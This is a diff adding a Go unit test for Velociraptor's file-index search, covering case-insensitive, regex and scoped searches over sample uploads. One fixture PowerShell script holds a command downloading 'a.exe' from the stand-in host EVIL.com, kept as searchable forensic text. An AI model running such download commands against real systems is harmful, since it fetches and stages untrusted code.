@@ -0,0 +1,133 @@
+package file_index_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/suite"
+	api_proto "www.velocidex.com/golang/velociraptor/api/proto"
+	config_proto "www.velocidex.com/golang/velociraptor/config/proto"
+	"www.velocidex.com/golang/velociraptor/datastore"
+	"www.velocidex.com/golang/velociraptor/file_store"
+	"www.velocidex.com/golang/velociraptor/file_store/api"
+	"www.velocidex.com/golang/velociraptor/file_store/test_utils"
+	flows_proto "www.velocidex.com/golang/velociraptor/flows/proto"
+	"www.velocidex.com/golang/velociraptor/paths"
+	"www.velocidex.com/golang/velociraptor/services"
+)
+
+type FileIndexTestSuite struct {
+	test_utils.TestSuite
+}
+
+func (self *FileIndexTestSuite) SetupTest() {
+	self.ConfigObj = self.LoadConfig()
+	self.ConfigObj.Frontend.ServerServices.FileIndexService = true
+	self.ConfigObj.FileIndex = &config_proto.FileIndexConfig{}
+
+	self.TestSuite.SetupTest()
+}
+
+func (self *FileIndexTestSuite) writeUpload(
+	client_id, flow_id, name string, data []byte) api.FSPathSpec {
+	upload := paths.NewFlowPathManager(client_id, flow_id).
+		GetUploadsFile("file", name).Path()
+
+	file_store_factory := file_store.GetFileStore(self.ConfigObj)
+	fd, err := file_store_factory.WriteFile(upload)
+	assert.NoError(self.T(), err)
+	defer fd.Close()
+
+	_, err = fd.Write(data)
+	assert.NoError(self.T(), err)
+
+	return upload
+}
+
+func (self *FileIndexTestSuite) makeDocx(text string) []byte {
+	buffer := &bytes.Buffer{}
+	zip_writer := zip.NewWriter(buffer)
+	fd, err := zip_writer.Create("word/document.xml")
+	assert.NoError(self.T(), err)
+
+	_, err = fd.Write([]byte(`<w:document><w:body><w:p><w:r><w:t>` +
+		text + `</w:t></w:r></w:p></w:body></w:document>`))
+	assert.NoError(self.T(), err)
+	assert.NoError(self.T(), zip_writer.Close())
+
+	return buffer.Bytes()
+}
+
+func (self *FileIndexTestSuite) TestIndexAndSearch() {
+	ctx := context.Background()
+	file_indexer, err := services.GetFileIndexer(self.ConfigObj)
+	assert.NoError(self.T(), err)
+
+	uploads := map[string][]byte{
+		"/var/log/auth.log": []byte("Accepted password for root\n" +
+			"Connection to evil.com closed\n"),
+		"/tmp/run.ps1": []byte("Invoke-WebRequest http://EVIL.com/a.exe\n"),
+		"/tmp/report.docx": self.makeDocx(
+			"Meeting notes about evil.com &amp; more"),
+		"/tmp/image.png": []byte("\x89PNG\r\n\x1a\n evil.com evil.com"),
+	}
+
+	// Searching a client requires the flow to exist.
+	db, err := datastore.GetDB(self.ConfigObj)
+	assert.NoError(self.T(), err)
+	err = db.SetSubject(self.ConfigObj,
+		paths.NewFlowPathManager("C.1", "F.1").Path(),
+		&flows_proto.ArtifactCollectorContext{
+			ClientId:  "C.1",
+			SessionId: "F.1",
+		})
+	assert.NoError(self.T(), err)
+
+	for name, data := range uploads {
+		upload := self.writeUpload("C.1", "F.1", name, data)
+		err = file_indexer.IndexUpload(ctx, self.ConfigObj, "C.1", "F.1", upload)
+		assert.NoError(self.T(), err)
+	}
+
+	// Searches are case insensitive.
+	result, err := file_indexer.Search(ctx, self.ConfigObj,
+		&api_proto.SearchFilesRequest{
+			Query:    "evil.com",
+			ClientId: "C.1",
+			FlowId:   "F.1",
+		})
+	assert.NoError(self.T(), err)
+
+	// Images are not indexed.
+	assert.Equal(self.T(), 3, len(result.Hits))
+	texts := []string{}
+	for _, hit := range result.Hits {
+		texts = append(texts, hit.Text)
+	}
+	assert.Contains(self.T(), texts, "Connection to evil.com closed")
+	assert.Contains(self.T(), texts, "Meeting notes about evil.com & more")
+
+	// Regex searches and limits
+	result, err = file_indexer.Search(ctx, self.ConfigObj,
+		&api_proto.SearchFilesRequest{
+			Query:    "^(accepted|invoke)",
+			Regex:    true,
+			ClientId: "C.1",
+			Limit:    1,
+		})
+	assert.NoError(self.T(), err)
+	assert.Equal(self.T(), 1, len(result.Hits))
+	assert.True(self.T(), result.Truncated)
+
+	// A scope is required.
+	_, err = file_indexer.Search(ctx, self.ConfigObj,
+		&api_proto.SearchFilesRequest{Query: "evil.com"})
+	assert.Error(self.T(), err)
+}
+
+func TestFileIndex(t *testing.T) {
+	suite.Run(t, &FileIndexTestSuite{})
+}